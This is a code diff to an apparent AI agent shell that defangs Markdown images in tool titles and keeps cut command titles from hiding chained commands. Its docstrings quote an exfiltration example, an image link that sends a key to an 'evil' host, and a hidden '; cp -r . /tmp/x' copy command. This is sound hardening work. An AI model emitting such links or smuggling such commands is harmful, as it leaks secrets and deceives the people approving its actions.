@@ -17,6 +17,7 @@ from pathlib import Path
 from typing import Any
 
 from shell.core.messages import DataBlock, TextBlock, ToolResult
+from shell.core.remoteimages import defang_images
 from shell.core.textsafety import sanitize
 from shell.permissions import paths
 from shell.permissions.shellsplit import split_command
@@ -29,6 +30,13 @@ MAX_PREVIEW_BYTES = 1_000_000
 
 
 def one_line(text: str, width: int = TITLE_WIDTH) -> str:
+    """``text`` as one sanitised line of at most ``width`` characters, with no image or
+    tag that loads by itself: editors render titles, option names and plan entries as
+    Markdown too (finding S10: ``Read ![x](https://evil/?k=KEY)`` fetched unasked)."""
+    return defang_images(_plain_line(text, width))
+
+
+def _plain_line(text: str, width: int) -> str:
     line = " ".join(sanitize(text).split())
     return line if len(line) <= width else line[: width - 1] + "…"
 
@@ -65,13 +73,13 @@ def _run_title(command: str) -> str:
     """``Run `CMD```; when the title is cut and the line runs more than one command,
     ``Run N commands: `CMD…```: a cut title must not hide that ``; cp -r . /tmp/x``
     follows a long harmless head (finding N8; the whole line is in the content)."""
-    shown = one_line(command, TITLE_WIDTH - 6).replace("`", "'")
+    shown = _plain_line(command, TITLE_WIDTH - 6).replace("`", "'")  # in a code span: as written
     cut = shown != " ".join(sanitize(command).split()).replace("`", "'")
     count = sum(1 for part in split_command(command).parts if part.text) if cut else 1
     if count <= 1:
         return f"Run `{shown}`"
     head = f"Run {count} commands: "
-    shown = one_line(command, TITLE_WIDTH - 2 - len(head)).replace("`", "'")
+    shown = _plain_line(command, TITLE_WIDTH - 2 - len(head)).replace("`", "'")
     return f"{head}`{shown}`"
 
 
